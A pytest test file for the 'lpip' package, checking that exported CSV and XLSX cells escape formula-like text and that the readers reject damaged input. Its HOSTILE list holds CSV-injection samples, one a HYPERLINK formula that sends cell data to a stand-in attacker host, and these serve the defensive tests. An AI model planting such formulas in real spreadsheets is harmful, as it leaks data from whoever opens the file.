"""Spreadsheets out: participants' text is written as text, never as a live formula, and
lpip's own CSVs read back unchanged."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from lpip.errors import LpipError
from lpip.spreadsheets import escape_formula, read_records, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\tindent",
    "\rcarriage",
]


@pytest.fixture
def frame() -> pd.DataFrame:
    texts = [*HOSTILE, "plain text", None]
    return pd.DataFrame({"text": texts, "number": [-1.5, 2, 3, 4, 5, 6, 7, None], "id": range(1, 9)})


@pytest.mark.parametrize("value", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_formula_like_text_gets_an_apostrophe(value):
    assert escape_formula(value) == "'" + value


def test_numbers_and_plain_text_are_left_alone():
    assert escape_formula(-3) == -3
    assert escape_formula("More buses") == "More buses"
    assert escape_formula("") == ""


def test_csv_cells_are_escaped_and_numbers_kept(frame):
    buffer = io.StringIO()
    write_csv(frame, buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))
    assert [row["text"] for row in rows[:5]] == ["'" + value for value in HOSTILE[:5]]
    assert rows[5]["text"] == "\ncarriage"  # line breaks are written as \n, so a CR cannot split the row
    assert rows[6]["text"] == "plain text"
    assert rows[0]["number"] == "-1.5"  # a negative number is a number, not text


def test_an_exported_csv_reads_back_as_written(frame, tmp_path):
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    records = read_records(path, LpipError)
    assert [row[0] for row in records[1:7]] == [*HOSTILE[:5], "\ncarriage"]


def test_xlsx_text_cells_are_strings_not_formulas(frame, tmp_path):
    path = write_xlsx({"statements": frame, "other": frame.head(2)}, tmp_path / "out.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["statements", "other"]
    sheet = book["statements"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=7)]
    assert [cell.value for cell in cells] == [*HOSTILE[:5], "\ncarriage"]  # XML reads a CR as a line feed
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet.cell(row=2, column=2).value == -1.5
    assert sheet.cell(row=2, column=2).data_type == "n"
    assert sheet.cell(row=9, column=1).value is None


# ---------------------------------------------------------------- reading


def test_cr_only_line_endings_are_rows(tmp_path):
    # Excel for Mac (CSV, not "CSV UTF-8") ends lines with a bare carriage return.
    path = tmp_path / "mac.csv"
    path.write_bytes("name,text\r\"A\",\"two\rlines\"\rB,plain\r".encode("cp1252"))
    assert read_records(path, LpipError) == [["name", "text"], ["A", "two\rlines"], ["B", "plain"]]


def test_a_nul_byte_is_refused_with_its_line(tmp_path):
    path = tmp_path / "damaged.csv"
    path.write_bytes(b"name,text\r\nA,fine\r\nB,bro\x00ken\r\n")
    with pytest.raises(LpipError, match="line 3 holds a NUL byte"):
        read_records(path, LpipError)


def test_utf16_is_named(tmp_path):
    path = tmp_path / "wide.csv"
    path.write_bytes("name\nA\n".encode("utf-16-le"))
    with pytest.raises(LpipError, match="UTF-16"):
        read_records(path, LpipError)


def test_a_damaged_workbook_is_one_error(tmp_path):
    import zipfile

    path = tmp_path / "damaged.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types><not closed")
        archive.writestr("xl/workbook.xml", "\x00\x01")
    with pytest.raises(LpipError, match="cannot (open|read) it as an Excel .xlsx workbook"):
        read_records(path, LpipError)


def test_read_rows_names_columns_and_numbers_rows(tmp_path):
    from lpip.spreadsheets import read_rows

    path = tmp_path / "rows.csv"
    path.write_text("name, sector ,\nA,public,\n,,\nB,private\n")
    sheet = read_rows(path, LpipError)
    assert sheet.columns == ["name", "sector", ""]
    assert sheet.rows == [(2, ["A", "public", ""]), (4, ["B", "private", ""])]
    assert sheet.records() == [{"name": "A", "sector": "public"}, {"name": "B", "sector": "private"}]


@pytest.mark.parametrize(("content", "fragment"), [
    ("name,name\nA,B\n", "the column 'name' appears 2 times in row 1"),
    ("name,\nA,x\n", "column 2 has values but no name in row 1"),
    ("name\nA,extra\n", "row 2 has more cells than row 1 has column names"),
    (",,\nA\n", "row 1 is empty"),
])
def test_read_rows_refuses_what_no_importer_can_use(tmp_path, content, fragment):
    from lpip.spreadsheets import read_rows

    path = tmp_path / "rows.csv"
    path.write_text(content)
    with pytest.raises(LpipError) as caught:
        read_rows(path, LpipError)
    assert fragment in str(caught.value)
